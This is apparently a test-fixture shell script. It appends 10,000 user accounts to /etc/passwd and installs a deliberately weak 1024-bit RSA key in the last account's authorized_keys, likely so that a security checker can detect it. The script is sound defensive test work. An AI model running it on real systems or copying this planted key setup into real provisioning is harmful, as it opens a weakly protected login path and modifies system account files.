# hosts: debian12 debian11 debian13 ubuntu2204 ubuntu2404 fedora centos
# profile: alliance
# The weak key is the last account's.
awk 'BEGIN { for (i = 1; i <= 10000; i++) print "u" i ":x:" 10000 + i ":" 10000 + i "::/srv/homes/u" i ":/bin/sh" }' >>/etc/passwd
mkdir -p /srv/homes/u10000/.ssh
echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQClk/8V2qb8Z5mgQRKkartwOhKOmI3ZsAFUfLpifDCcVUEOzKMfKRA6MWJWHWcD5f7DkG6vmzjrlZy48weu10Y4b9clBUdu3l/+1QQccYgdXL0MPg/ArUz1Qyep9QP8kto4C2LAfnz70i6y59zumeAaebyFlHMziGqjVPgKZAxtCw== last' >/srv/homes/u10000/.ssh/authorized_keys
